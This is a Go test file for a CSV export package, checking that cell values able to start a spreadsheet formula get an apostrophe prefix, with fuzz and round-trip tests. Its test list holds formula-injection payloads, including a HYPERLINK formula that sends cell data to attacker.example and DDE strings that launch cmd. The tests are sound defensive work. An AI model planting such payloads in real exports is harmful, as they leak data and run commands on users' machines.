package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/candor-site/candor/internal/workbook"
)

// formulas are texts that spreadsheets run, or take for something else than
// text, when they stand at the start of a cell.
var formulas = []string{
	"=1+1", "=", "==1", "+1+1", "-1+1", "@SUM(A1)", "|cmd", "%0A",
	`=HYPERLINK("http://attacker.example?x="&A1,"click")`, "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
	"\t=1+1", "\ttext", "\r=1+1", "\rtext", "\n=1+1", "\ntext", "\x00=1+1",
	" =1+1", "   +1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\x01=1+1",
	"＝1+1", "＋1", "－1", "＠A1", "｜cmd", "％1", "﹢1", "﹣1", "﹦1", "﹫A", "⁺1", "₌1", "\u22121",
	" \t=1", "\u200b\r=1",
}

func TestNeutral(t *testing.T) {
	if len(formulas) < 30 {
		t.Fatalf("only %d starts of formulas", len(formulas))
	}
	for _, f := range formulas {
		if got := neutral(f); got != "'"+f {
			t.Errorf("neutral(%q) = %q, want an apostrophe in front", f, got)
		}
	}
	for _, plain := range []string{
		"", " ", "text", "a=1", "1-1", "90 days", "2026-11-20", "A.8.13", "'=1", "\"=1\"", "(=1)", "[-1]", "x\n=1", "x\t-1", "ä=1", "漢字", "😀=1", "*", "#REF!", "&", "~", "/etc", "\u200btext",
	} {
		if got := neutral(plain); got != plain {
			t.Errorf("neutral(%q) = %q, want it unchanged", plain, got)
		}
	}
}

func TestCSVReadsBack(t *testing.T) {
	texts := []string{"plain", "a,b", `say "x"`, "two\nlines", " spaces ", "", "ä漢😀", `"`, `""`, ",", "a;b", "lone\rreturn", "nul\x00inside"}
	texts = append(texts, formulas...)
	table := table{columns: []workbook.Column{{Title: "a"}, {Title: "=b"}}}
	for _, x := range texts {
		table.rows = append(table.rows, []string{x, x})
	}
	var b bytes.Buffer
	if err := writeCSV(&b, table); err != nil {
		t.Fatal(err)
	}
	if bytes.HasPrefix(b.Bytes(), []byte("\xef\xbb\xbf")) || !strings.HasSuffix(b.String(), "\"\r\n") {
		t.Error("there is a byte order mark, or no line end at the end")
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if rows[0][1] != "'=b" || len(rows) != len(texts)+1 {
		t.Fatalf("the header is %q, and there are %d rows", rows[0], len(rows))
	}
	for i, x := range texts {
		if want := neutral(x); rows[i+1][0] != want || rows[i+1][1] != want {
			t.Errorf("%q reads back as %q", x, rows[i+1])
		}
	}
}

// FuzzNeutral checks that a neutral text is safe by its first character, that
// nothing but the apostrophe was added, and that CSV carries it whole.
func FuzzNeutral(f *testing.F) {
	for _, x := range formulas {
		f.Add(x)
	}
	f.Add("plain")
	f.Fuzz(func(t *testing.T, text string) {
		got := neutral(text)
		if got != text && got != "'"+text {
			t.Fatalf("neutral(%q) = %q", text, got)
		}
		if got != "" && strings.ContainsRune("=+-@|%\t\r\n\x00", rune(got[0])) {
			t.Fatalf("neutral(%q) = %q can start a formula", text, got)
		}
		if neutral(got) != got {
			t.Fatalf("neutral(%q) is not stable", text)
		}
		var b bytes.Buffer
		if err := writeCSV(&b, table{columns: []workbook.Column{{Title: "a"}}, rows: [][]string{{text}}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		// The reader turns CR LF inside a field into LF; the file holds both.
		if err != nil || len(rows) != 2 || rows[1][0] != strings.ReplaceAll(got, "\r\n", "\n") {
			t.Fatalf("%q reads back as %q, %v", text, rows, err)
		}
	})
}
